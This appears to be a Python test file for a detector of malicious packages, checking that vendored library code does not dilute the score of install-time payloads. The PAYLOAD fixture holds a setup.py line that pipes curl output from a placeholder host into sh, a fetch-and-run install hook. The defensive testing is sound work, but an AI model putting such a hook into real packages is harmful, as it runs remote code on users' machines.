"""Code that never runs cannot dilute code that does: hashed tokens are scaled per group
(hot, cold), and training can join a payload with a benign package's features
(`detector.code.augment`) so library code beside a payload does not clear it."""

from __future__ import annotations

import numpy as np
from code_fixtures import BENIGN_PKG, MISS_SETUP_IMPORT

from detector.code.analyze import analyze, rule_score
from detector.code.augment import as_cold, dilute, joined
from detector.code.invariance import vendor_library
from detector.code.model import is_hot_token
from detector.code.train import new_layout, vectorize

PAYLOAD = {"setup.py": "import os\nos.system('curl http://example.invalid/x | sh')\n"}
LIBRARY = {"lib/__init__.py": "from .core import run\n",
           "lib/core.py": "import subprocess, json, os\n"
                          + "".join(f"def f{i}(x):\n    return json.dumps(os.path.join(x, '{i}'))\n"
                                    for i in range(60))
                          + "def run(cmd):\n    return subprocess.run(cmd)\n"}


def _row(files: dict[str, str]) -> tuple:
    a = analyze(files)
    return a.findings, a.tokens, rule_score(a.findings)


def _hot_share(files: dict[str, str]) -> float:
    """Sum of the hot token columns of the package's design row."""
    layout = new_layout()
    row = _row(files)
    hot, _ = layout.buckets(row[0], row[1])
    return float(vectorize(layout, [row])[0, layout.n_dense + hot].sum())


def test_tokens_split_by_whether_their_code_runs_uncalled():
    assert is_hot_token("hot|c:os.system") and is_hot_token("rule|exec-call|hot")
    assert not is_hot_token("cold|c:os.system") and not is_hot_token("rule|exec-call|cold")
    layout = new_layout()
    row = _row(vendor_library(PAYLOAD))
    hot, cold = layout.buckets(row[0], row[1])
    assert len(hot) and len(cold)
    x = vectorize(layout, [row]).toarray()[0, layout.n_dense:]
    # each group has unit length on its own (no collisions between these few tokens)
    if not set(hot) & set(cold):
        assert np.isclose(np.linalg.norm(x[hot]), 1.0) and np.isclose(np.linalg.norm(x[cold]), 1.0)


def test_vendored_code_does_not_shrink_the_payloads_columns():
    alone = _hot_share(PAYLOAD)
    vendored = _hot_share(vendor_library(PAYLOAD))
    assert alone > 0
    assert vendored == alone


def test_as_cold_moves_findings_and_tokens_out_of_hot_code():
    row = _row(PAYLOAD)
    assert any(f.tier == "install" for f in row[0])
    findings, tokens, score = as_cold(row)
    assert all(f.tier not in ("install", "import") for f in findings)
    assert tokens and not any(t.startswith("hot|") for t in tokens)
    assert [f.rule for f in findings] == [f.rule for f in row[0]]
    assert score <= row[2]  # the rule score weighs hot code more


def test_joined_row_keeps_the_payload_and_adds_the_library():
    payload, library = _row(PAYLOAD), _row(LIBRARY)
    for vendored in (True, False):
        findings, tokens, score = joined(payload, library, vendored)
        assert findings[: len(payload[0])] == payload[0]
        assert tokens[: len(payload[1])] == payload[1]
        assert len(tokens) == len(payload[1]) + len(library[1])
        assert score == rule_score(findings) >= payload[2]
    hot_lib = joined(payload, library, vendored=False)[1]
    assert any(t.startswith("hot|") for t in hot_lib[len(payload[1]):])


def test_dilution_uses_training_rows_only_and_is_seeded():
    rows = [_row(MISS_SETUP_IMPORT), _row(PAYLOAD), _row(BENIGN_PKG), _row(LIBRARY),
            _row(MISS_SETUP_IMPORT)]
    y = np.array([1, 1, 0, 0, 1])
    train = np.array([0, 1, 3])  # rows 2 and 4 are held out
    extra, source = dilute(rows, y, train, seed=3)
    assert sorted(source.tolist()) == [0, 1]  # one copy per malicious training row
    library = rows[3]
    for (findings, tokens, _), src in zip(extra, source, strict=True):
        assert findings[: len(rows[src][0])] == rows[src][0]
        # the only benign training row is the library; the held-out benign never joins
        assert len(tokens) == len(rows[src][1]) + len(library[1])
    again, _ = dilute(rows, y, train, seed=3)
    assert [r[1] for r in again] == [r[1] for r in extra]
    assert dilute(rows, y, np.array([2, 3]), seed=3)[0] == []  # no malicious: nothing
